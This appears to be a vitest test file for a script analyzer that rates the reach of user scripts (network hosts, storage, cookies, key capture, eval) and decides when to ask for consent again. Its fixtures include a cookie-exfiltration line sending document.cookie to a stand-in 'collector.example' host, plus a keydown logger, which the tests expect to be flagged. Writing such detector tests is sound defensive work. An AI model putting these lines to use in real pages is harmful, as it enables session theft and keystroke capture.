import { analyzeScript } from "@scriptorium/script-analyzer/analyze-script";
import { expect, test } from "vitest";
import { programRatable } from "../../../rating/rate-script.ts";
import { type AgreedCode, agreeAlso, isUnclear, reachOf, reasonToAsk } from "./code-reach.ts";

const reach = (code: string) => reachOf(analyzeScript(programRatable(code).input));
function agreedTo(...codes: readonly string[]): AgreedCode {
	let agreed: AgreedCode | null = null;
	for (const code of codes) {
		const seen = reach(code);
		if (seen === null) throw new Error("the code could not be rated");
		agreed = agreeAlso(agreed, seen, code);
	}
	if (agreed === null) throw new Error("nothing was agreed to");
	return agreed;
}
const why = (agreed: AgreedCode, code: string) => reasonToAsk(agreed, reach(code))?.why ?? null;

const PLAIN = "document.body.style.color = 'red';";

test.each([
	["other text of the page", "document.title = 'x'; document.querySelector('h1').remove();", null],
	["a server", 'fetch("https://a.example/");', "more"],
	["storage", 'localStorage.setItem("a", "b");', "more"],
	["cookies", "console.log(document.cookie);", "more"],
	["keys", 'addEventListener("keydown", (event) => console.log(event.key));', "more"],
	["code that is loaded", "eval(window.q);", "more"],
	["a function of the page", "XMLHttpRequest.prototype.send = () => {};", "more"],
	["a session that is sent away", 'fetch("https://collector.example/?" + document.cookie);', "high"],
	["no program", "let let = (;", "unrated"],
])("after plain code, code with %s asks as %s: %s", (_, code, expected) => {
	expect(why(agreedTo(PLAIN), code)).toBe(expected);
});

test("asks at another server, and no more at one that was seen, whatever came between", () => {
	const agreed = agreedTo('fetch("https://a.example/");', PLAIN);
	expect(why(agreed, 'fetch("https://a.example/other"); document.title = "x";')).toBeNull();
	expect(reasonToAsk(agreed, reach('fetch("https://b.example/");'))).toEqual({
		why: "more",
		news: [{ kind: "host", what: "b.example" }],
	});
});

test("code that is decided while it runs asks at each change, although its profile is the same", () => {
	const agreed = agreedTo("eval(window.q);");
	expect(why(agreed, "eval(window.q); document.title = 1;")).toBe("unclear");
	expect(agreed.hashes).toEqual(["eval(window.q);"]);
	expect(isUnclear({ level: "green", parts: [{ kind: "unresolved", what: "fetch" }] })).toBe(true);
	const address = { kind: "host" as const, what: "(unknown)" };
	expect(isUnclear({ level: "green", parts: [{ kind: "unresolved", what: "fetch" }, address] })).toBe(false);
});

test("a text that is rated High is never one that runs without a question", () => {
	const high = 'fetch("https://collector.example/?" + document.cookie);';
	const agreed = agreedTo(PLAIN, high);
	expect(agreed.hashes).toEqual([PLAIN]);
	expect(why(agreed, high)).toBe("high");
});

test("more facts than can be compared count as nothing known", () => {
	const hosts = Array.from({ length: 301 }, (_, at) => `fetch("https://h${at}.example/");`).join("\n");
	expect(reach(hosts)).toBeNull();
});
